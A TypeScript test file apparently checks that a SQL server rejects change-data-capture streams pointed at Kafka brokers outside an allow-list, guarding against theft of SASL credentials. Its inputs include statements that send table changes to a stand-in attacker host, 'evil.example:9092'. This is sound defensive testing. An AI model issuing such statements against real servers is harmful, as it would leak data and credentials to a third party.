/**
 * Threat: a user with a writing role names a broker of their own in TO KAFKA and receives the
 * server's SASL credentials (or writes into another cluster). SVC_KAFKA_BROKERS_ALLOWED bounds the
 * brokers a stream may name, and SASL without it refuses to start.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../helpers/sql-server.js';

let server: TestServer | null = null;

afterAll(async () => {
  await server?.close();
});

async function query(sql: string): Promise<{ status: number; body: any }> {
  const response = await fetch(`${server!.baseUrl}/api/v1/query`, {
    method: 'POST',
    headers: { authorization: `Bearer ${server!.apiKey}`, 'content-type': 'application/json' },
    body: JSON.stringify({ sql }),
  });
  return { status: response.status, body: await response.json() };
}

describe('Kafka brokers a stream may name', () => {
  it('SASL without SVC_KAFKA_BROKERS_ALLOWED refuses to start, saying what to set', async () => {
    await expect(
      startTestServer({ env: { SVC_KAFKA_SASL_MECHANISM: 'plain', SVC_KAFKA_SASL_USERNAME: 'u', SVC_KAFKA_SASL_PASSWORD: 'p' } }),
    ).rejects.toMatchObject({ code: 'CONFIG_INVALID', message: expect.stringContaining('SVC_KAFKA_BROKERS_ALLOWED') });
  });

  it('a broker outside the list is 403; one inside is accepted', async () => {
    server = await startTestServer({ env: { SVC_KAFKA_BROKERS_ALLOWED: '127.0.0.1:1, kafka-a:9092' } });
    expect((await query('CREATE TABLE t (id INT PRIMARY KEY)')).status).toBe(200);
    const refused = await query("CREATE CHANGE DATA CAPTURE ON t TO KAFKA 'evil.example:9092' AS s1");
    expect(refused.status).toBe(403);
    expect(refused.body.error).toMatchObject({ code: 'AUTHORIZATION_DENIED', details: { brokers: ['evil.example:9092'] } });
    const mixed = await query("CREATE CHANGE DATA CAPTURE ON t TO KAFKA '127.0.0.1:1,evil.example:9092' AS s2");
    expect(mixed.status).toBe(403);
    expect((await query("CREATE CHANGE DATA CAPTURE ON t TO KAFKA '127.0.0.1:1' AS s3")).status).toBe(200);
    expect((await query('SHOW CDC STREAMS')).body.data.map((r: { name: string }) => r.name)).toEqual(['s3']);
  });
});
